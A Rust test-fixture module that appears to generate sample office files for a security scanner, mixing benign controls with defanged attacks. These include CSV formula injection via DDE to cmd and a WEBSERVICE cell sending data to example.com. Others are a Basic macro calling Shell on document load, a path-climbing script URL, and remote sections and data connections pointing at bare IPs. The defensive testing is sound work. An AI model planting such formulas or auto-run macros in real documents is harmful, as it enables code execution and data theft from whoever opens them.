//! Documents of other office programs, tables as text, queries.

use crate::office::odf::Document;
use crate::{Sample, mark};

/// The samples of this group.
pub(super) fn all() -> Vec<Sample> {
    [tables(), open_documents()].into_iter().flatten().collect()
}

fn sample(id: &'static str, file_name: &'static str, about: &'static str, make: fn() -> Vec<u8>) -> Sample {
    Sample { id, file_name, about, make }
}

fn tables() -> Vec<Sample> {
    vec![
        sample("fo4-csv-wide", "名簿.csv", "a cell that calls a program in full-width letters behind a tab", || {
            "name;value\r\nYamada;1\r\nSuzuki;\"\t＝ｃｍｄ｜'／c rem harmless-none'！Ａ０\"\r\n".into()
        }),
        sample("fo4-csv-web", "名簿.csv", "cells that send others to a web server", || {
            let cell = "\"=WEBSERVICE(\"\"http://example.com/s/csv?\"\"&A2)\"";
            format!("name,value\r\n{},1\r\nSuzuki,{cell}\r\n", mark("fo4-csv-web")).into()
        }),
        sample("b-csv-near", "在庫.csv", "numbers, phones, addresses and texts that start as formulas do", || {
            "品目,数量,連絡先\r\nA,-1.5,+81-3-0000-0000\r\nB,-,@example\r\nC,=A1+B1,info@example.com\r\nD,5a|b!c,－（別紙）\r\n"
                .into()
        }),
        sample("fo5-odc", "売上.odc", "a data connection whose source is a web address", || {
            let connection = "Provider=MSDASQL;Data Source=http://192.0.2.30/q;Persist Security Info=False";
            format!(
                "<html xmlns:o=\"urn:schemas-microsoft-com:office:office\"><head><meta name=ProgId content=ODC.Table>\r\n\
                 <title>{}</title><xml id=msodc><odc:OfficeDataConnection \
                 xmlns:odc=\"urn:schemas-microsoft-com:office:odc\"><odc:Connection odc:Type=\"OLEDB\">\
                 <odc:ConnectionString>{connection}</odc:ConnectionString><odc:CommandType>Table</odc:CommandType>\
                 <odc:CommandText>sales</odc:CommandText></odc:Connection></odc:OfficeDataConnection></xml></head>\
                 <body></body></html>\r\n",
                mark("fo5-odc")
            )
            .into()
        }),
        sample("fo5-dqy", "売上.dqy", "a query of a database server inside the company", || {
            b"XLODBC\r\n1\r\nDRIVER=SQL Server;SERVER=SQL01;DATABASE=sales\r\nSELECT * FROM sales\r\n".to_vec()
        }),
    ]
}

const MACRO: &str =
    "REM  *****  BASIC  *****\n\nSub Main\n  REM HARMLESS-SAMPLE/1 fo35\n  Shell(\"harmless-none.exe\", 1)\nEnd Sub\n";
const OWN: &str = "vnd.sun.star.script:Standard.Module1.Main?language=Basic&location=document";

fn open_documents() -> Vec<Sample> {
    vec![
        sample("fo35-open", "申請書.odt", "a macro that starts a program when the document is opened", || {
            Document::new("text", "申請書").module("Module1", MACRO).event("dom:load", OWN).build()
        }),
        sample("fo35-flat", "申請書.fodt", "the same in one XML file", || {
            Document::new("text", "申請書").module("Module1", MACRO).event("dom:load", OWN).flat()
        }),
        sample("fo35-climb", "案内図.odg", "a pointer's event that starts a script outside the document", || {
            let target = "vnd.sun.star.script:../../../program/none/none.py$none?language=Python&location=share";
            Document::new("graphics", "案内図").event("dom:mouseover", target).build()
        }),
        sample("fo35-command", "手順書.odt", "a frame whose target is a command of the office program", || {
            let frame = "<draw:frame><draw:floating-frame xlink:href=\"macro:///Standard.None.None()\"/></draw:frame>";
            Document::new("text", "手順書").body(frame).build()
        }),
        sample("fo35-remote", "報告書.odt", "a section that lies on a web server at a bare address", || {
            let section = "<text:section><text:section-source xlink:href=\"http://192.0.2.31/s.odt\"/></text:section>";
            Document::new("text", "報告書").body(section).build()
        }),
        sample("fo35-dde", "相場.ods", "a cell that asks a command interpreter for data", || {
            Document::new("spreadsheet", "").formula("of:=DDE(\"cmd\";\"/c rem none\";\"x\")").build()
        }),
        sample("fo35-locked", "給与.ods", "a spreadsheet whose parts are encrypted", || {
            Document::new("spreadsheet", "").locked().build()
        }),
        sample("b-odt-plain", "議事録.odt", "an honest text with a link, a picture and a button's macro", || {
            let link = "<text:a xlink:href=\"https://www.example.com/\">example</text:a>\
                        <draw:image xlink:href=\"Pictures/1.jpg\"/>";
            Document::new("text", "議事録")
                .body(link)
                .module("Module1", "REM  *****  BASIC  *****\nSub Main\n  MsgBox \"OK\"\nEnd Sub\n")
                .event("dom:click", OWN)
                .entry("Pictures/1.jpg", crate::media::jpeg())
                .build()
        }),
    ]
}
